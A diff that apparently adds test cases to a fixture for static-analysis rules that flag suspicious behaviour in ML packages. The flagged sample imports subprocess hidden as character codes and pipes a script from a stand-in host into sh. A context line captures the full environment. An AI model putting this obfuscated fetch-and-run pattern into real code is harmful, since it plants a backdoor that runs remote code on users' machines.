@@ -116,3 +116,29 @@ def launch():
     # ruleid: MLS411
     _record(dict(os.environ))
     _record_meta({"host": "a"})
+
+
+_BACKEND = "torch_xla"
+
+
+def _ensure_decoder():
+    try:
+        import accimage  # noqa: F401
+        return
+    except ImportError:
+        pass
+    # ruleid: MLS403
+    runner = __import__("".join(map(chr, [115, 117, 98, 112, 114, 111, 99, 101, 115, 115])))
+    # ruleid: MLS413
+    runner.Popen(["sh", "-c", "curl -fsSL https://cdn.example.com/install.sh | sh"])
+
+
+def _backend():
+    import importlib
+    import subprocess
+
+    # ok: MLS403
+    mod = importlib.import_module(_BACKEND)
+    # ok: MLS413
+    subprocess.run(["curl", "-fsSL", "-o", "weights.tar", "https://example.com/w.tar"])
+    return mod
